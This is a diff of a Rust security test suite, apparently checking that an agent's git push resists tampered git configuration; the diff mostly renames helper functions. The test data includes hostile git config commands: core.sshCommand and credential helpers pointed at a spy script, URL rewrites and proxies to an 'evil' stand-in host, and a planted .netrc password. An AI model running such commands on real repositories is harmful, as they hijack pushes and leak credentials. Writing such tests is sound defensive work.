@@ -14,8 +14,8 @@ use std::time::Duration;
 
 use serde_json::Value;
 
-use crate::support::origin::program;
-use crate::support::{Forge, Origin, Receiver, path, quoted, setting, with_enough_time};
+use crate::support::origin::write_program;
+use crate::support::{Forge, Origin, Receiver, duration_setting, path, quoted, with_enough_time};
 
 const BRANCH: &str = "descartes/proj-456/8";
 
@@ -32,7 +32,7 @@ struct Scene {
 
 impl Scene {
     fn new() -> Self {
-        let origin = Origin::with(&[("README", "A house.\n"), ("src/main", "roof\n")]);
+        let origin = Origin::with_files(&[("README", "A house.\n"), ("src/main", "roof\n")]);
         // Different for every test, because spies of other tests run at the same time.
         let token = format!("tok_{}", origin.path("").display());
         let token = token.replace(|c: char| !c.is_ascii_alphanumeric(), "x");
@@ -47,7 +47,7 @@ impl Scene {
             done; }} >> {} 2>/dev/null; cat; exit 0",
             quoted(origin.path("spy_output"))
         );
-        program(&spy, &script);
+        write_program(&spy, &script);
         Self {
             forge: Forge::start(&origin.path(""), Some(&token)),
             receiver: Receiver::start(),
@@ -123,7 +123,7 @@ impl Scene {
 fn assert_harmless_although_git_waits(attack: &str) {
     with_enough_time(Duration::from_secs(5), |limit| {
         let scene = Scene::new();
-        let event = scene.attack_within(&setting(limit), attack);
+        let event = scene.attack_within(&duration_setting(limit), attack);
         if event["status"] != "completed" {
             return Err(format!("the work was not pushed: {event:#}"));
         }
@@ -182,7 +182,7 @@ fn an_ssh_command_does_not_run() {
     let attack = format!(
         "for where in --local --global; do git config $where core.sshCommand \"$RUN\"
          git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
-        scene.forge.base()
+        scene.forge.base_url()
     );
     scene.assert_harmless(&attack);
 }
@@ -194,14 +194,14 @@ fn a_credential_helper_is_not_asked() {
         "for where in --local --global; do git config $where credential.helper \"!$RUN\"
          git config $where credential.{}.helper \"!$RUN\"; done
          printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
-        scene.forge.base()
+        scene.forge.base_url()
     );
     scene.assert_harmless(&attack);
-    let guessed = scene.forge.journal().iter().any(|(_, sent)| {
-        // agent:guessed
-        sent.as_deref() == Some("Basic YWdlbnQ6Z3Vlc3NlZA==")
+    let was_sent = scene.forge.requests().iter().any(|request| {
+        // The base64 of agent:guessed.
+        request.authorization.as_deref() == Some("Basic YWdlbnQ6Z3Vlc3NlZA==")
     });
-    assert!(!guessed);
+    assert!(!was_sent);
 }
 
 #[test]
@@ -212,11 +212,11 @@ fn rewritten_urls_and_proxies_are_ignored() {
         "for where in --local --global; do git config $where url.{evil}/.insteadOf {base}/
          git config $where url.{evil}/.pushInsteadOf {base}/; git config $where http.proxy {evil}
          git config $where remote.origin.url {evil}/project.git; done",
-        evil = evil.base(),
-        base = scene.forge.base()
+        evil = evil.base_url(),
+        base = scene.forge.base_url()
     );
     scene.assert_harmless(&attack);
-    assert_eq!(evil.journal(), []);
+    assert_eq!(evil.requests(), []);
 }
 
 #[test]
